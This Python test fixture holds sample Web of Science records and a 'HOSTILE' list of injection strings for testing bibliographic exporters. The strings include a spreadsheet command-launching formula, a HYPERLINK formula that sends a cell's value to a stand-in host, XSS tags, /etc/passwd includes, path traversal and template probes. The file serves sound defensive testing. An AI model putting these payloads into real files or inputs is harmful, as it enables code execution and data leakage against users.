"""A few works, written by hand, in the tags of Web of Science; each format writes them its own way."""

from __future__ import annotations

# The first two stand at the start and the end of a file and must survive damage between them.
HEAD = {
    "PT": "J", "AU": ["Fermi, QA", "Lovelace, B"], "AF": ["Fermi, Quentin A.", "Lovelace, Beatrix"],
    "TI": "Headmost sentinel on perovskite stability", "SO": "JOURNAL OF FIRST THINGS", "LA": "English",
    "DT": "Article", "DE": "perovskites; stability", "ID": "SOLAR-CELLS; FILMS", "AB": "We guard the beginning.",
    "C1": ["[Fermi, Quentin A.] Univ Porto, Dept Phys, Porto, Portugal.",
           "[Lovelace, Beatrix] Univ Ghent, Ctr Mol Modeling, Ghent, Belgium."],
    "RP": "Fermi, QA (corresponding author), Univ Porto, Dept Phys, Porto, Portugal.",
    "CR": ["Curie M, 1911, NATURE, V1, P2, DOI 10.1/first", "Noether E, 1918, NACHR GES, V2, P235"],
    "NR": "2", "TC": "11", "PY": "2019", "VL": "7", "IS": "3", "BP": "101", "EP": "109",
    "DI": "10.5555/sentinel.head", "WC": "Chemistry, Physical", "SC": "Chemistry",
    "UT": "WOS:000900000000001",
}  # fmt: skip
LAST = {
    "PT": "J", "AU": ["Zuse, K"], "AF": ["Zuse, Katharina"],
    "TI": "Rearmost sentinel of amorphous alloys", "SO": "ANNALS OF LAST THINGS", "LA": "English",
    "DT": "Review", "DE": "metallic glass", "ID": "ALLOYS", "AB": "We guard the end.",
    "C1": ["[Zuse, Katharina] Univ Oulu, Oulu, Finland."],
    "RP": "Zuse, K (corresponding author), Univ Oulu, Oulu, Finland.",
    "CR": ["Bohr N, 1913, PHILOS MAG, V26, P1, DOI 10.1/last"],
    "NR": "1", "TC": "0", "PY": "2021", "VL": "40", "IS": "12", "BP": "1", "EP": "2",
    "DI": "10.5555/sentinel.last", "WC": "Metallurgy & Metallurgical Engineering", "SC": "Metallurgy",
    "UT": "WOS:000900000000002",
}  # fmt: skip
SENTINELS = (HEAD, LAST)

MIDDLE = (
    {
        "PT": "J", "AU": ["Wu, S", "Li, QR"], "AF": ["Wu, Sheng", "Li, Qing-Rui"],
        "TI": "Learning the phases of high-entropy oxides", "SO": "ACTA MATERIALIA", "LA": "English",
        "DT": "Article; Early Access", "DE": "machine learning; high-entropy oxides", "ID": "PHASE; OXIDES",
        "AB": "We learn. (C) 2021 Elsevier Ltd. All rights reserved.",
        "C1": ["[Wu, Sheng] Chinese Acad Sci, Inst Phys, Beijing, Peoples R China.",
               "[Wu, Sheng; Li, Qing-Rui] MIT, Cambridge, MA 02139 USA."],
        "C3": "Chinese Academy of Sciences; Massachusetts Institute of Technology (MIT)",
        "RP": "Li, QR (corresponding author), MIT, Cambridge, MA 02139 USA.",
        "RI": "Wu, Sheng/A-1234-2010", "OI": "Wu, Sheng/0000-0002-1825-0097",
        "FU": "National Natural Science Foundation of China [51871078, 5187]", "FX": "We thank everyone.",
        "CR": ["Doe J, 2001, NATURE, V1, P2, DOI 10.1/A", "Roe R, 1999, BOOK X"],
        "NR": "2", "TC": "7", "U1": "1", "U2": "25", "PD": "MAR-APR", "PY": "2021", "VL": "5", "IS": "2",
        "BP": "10", "EP": "20", "DI": "10.1016/j.x.1", "EA": "DEC 2020", "DA": "2023-01-06",
        "WC": "Materials Science, Multidisciplinary; Chemistry, Physical", "SC": "Materials Science; Chemistry",
        "UT": "WOS:000000000000001",
    },
    {
        "PT": "J", "AU": ["ITO, K"], "TI": "OLD LAYOUT OF AN ADDRESS", "SO": "J CHEM PHYS", "DT": "Note",
        "C1": ["UNIV TOKYO,DEPT CHEM,TOKYO,JAPAN.", "HARVARD UNIV,BOSTON,MA 02115."],
        "TC": "3", "PY": "1973", "VL": "58", "BP": "4", "UT": "WOS:A1973000000002",
    },
    {
        "PT": "C", "AU": ["Müller, Å", "Łukasiewicz, J", "Nuñez, O"],
        "AF": ["Müller, Åsa", "Łukasiewicz, Jan", "Nuñez, Óscar"],
        "TI": "Élan vital: «potentials» of naïve façades – a 20 °C β-phase study", "SO": "PROC. CONF. MÜNCHEN",
        "LA": "French", "DT": "Proceedings Paper", "CT": "Conference on Naïve Façades", "DE": "façade; β-phase",
        "C1": ["[Müller, Åsa; Nuñez, Óscar] KTH, Stockholm, Sweden.", "[Łukasiewicz, Jan] Uniw Łódzki, Łódź, Poland."],
        "CR": ["Ampère A, 1820, ANN CHIM PHYS, V15, P59"],
        "NR": "1", "TC": "0", "PY": "2018", "BP": "77", "EP": "81", "DI": "10.5555/conf.77",
        "SN": "0001-0002", "BN": "978-3-16-148410-0", "UT": "WOS:000000000000003",
    },
    {
        "PT": "J", "AU": ["吕凤先", "陶冶宇"], "AF": ["吕凤先", "陶冶宇"],
        "TI": "人工智能驱动的材料化学研究", "SO": "科学通报", "LA": "Chinese", "DT": "Article", "DE": "人工智能; 材料",
        "C1": ["[吕凤先; 陶冶宇] 中国科学院, 北京, Peoples R China."],
        "TC": "1", "PY": "2024", "VL": "69", "BP": "1", "EP": "9", "DI": "10.5555/zh.1", "UT": "WOS:000000000000004",
    },
    {
        "PT": "J", "AU": ["Quote, \"Q\""], "AF": ["Quote, \"Quill\""],
        "TI": "\"Quoted\", braced {H2O} and [bracketed] titles; with 5 < 6 & 7 > 2", "SO": "A, B; C", "DT": "Letter",
        "AB": "A line with \"quotes\", commas, semicolons; and {braces}.", "DE": "a, b; c \"d\"",
        "C1": ["[Quote, \"Quill\"] Univ Oxford, Oxford, England."],
        "TC": "2", "PY": "2020", "VL": "1", "AR": "e12345", "DI": "10.5555/(sici)1097<1::aid>3.0.co;2-x",
        "UT": "WOS:000000000000005",
    },
    {
        "PT": "J", "AU": ["Sparse, A"], "TI": "A work of which little is known", "PY": "2022",
        "UT": "WOS:000000000000006",
    },
    {
        "PT": "J", "AU": [f"Crowd, {chr(65 + n % 26)}{n}" for n in range(60)],
        "AF": [f"Crowd, Member {n}" for n in range(60)],
        "TI": "A collaboration of sixty", "SO": "PHYS REV X", "DT": "Article",
        "C1": [f"[Crowd, Member {n}] Univ Town {n}, Town {n}, Italy." for n in range(60)],
        "CR": [f"Crowd A{n}, 20{n:02d}, PHYS REV D, V{n}, P{n}, DOI 10.1/{n}" for n in range(60)],
        "NR": "60", "TC": "600", "PY": "2012", "VL": "2", "BP": "1", "EP": "44", "DI": "10.5555/crowd",
        "UT": "WOS:000000000000007",
    },
)  # fmt: skip

# What an attacker, or a careless typesetter, puts where a title should be.
HOSTILE = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd", "=HYPERLINK(\"http://x.example/\"&A1,\"x\")",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><b>", "<!-- ", "]]>", "&lt;&#0;&amp;",
    "\\input{/etc/passwd}", "$\\frac{1}{2}$ \\end{document}", "[x](javascript:alert(1))", "```{include} /etc/passwd",
    "{{ 7*7 }} {% raw %}", "{x.__class__}", "%s%n%x", "../../etc/passwd", "/etc/passwd", "C:\\con\\nul", "~root",
    "a\x00b", "\x1b[31mred\x1b[0m\x07", "\u202ertl\u202c", "z\u0335a\u0336l\u0337", "\ufeffbom", "\ufffe\uffff", "x" * 5000,
    "; ; ;", "[", "]", "[[[]", "[a] [b] c", "{", "}", '"', "'", "', '", "\\", "|", "ER", "EF", "PT J", "TY  - JOUR",
    "NULL", "nan", "None", "inf", "-1", "1e999", "9" * 400, "٣٤", "½", "0x10", "1_000", " 12 ", "12.0", "12.5", "2020-13-45",
    "99999999999999999999", "-9223372036854775809", "10.1/\n10.2", "a\u2028b\u2029c\x0bd\x0ce\x85f\x1cg", "", " ",
)  # fmt: skip
NUMERIC_TAGS = ("PY", "TC", "NR", "Z9", "U1", "U2", "PG", "BP", "VL")
TEXT_TAGS = ("TI", "AB", "SO", "DE", "ID", "UT", "DI", "RP", "FU", "RI", "OI", "EA", "PD", "WC", "C3", "DT", "LA", "FX")
LIST_TAGS = ("AU", "AF", "C1", "CR")
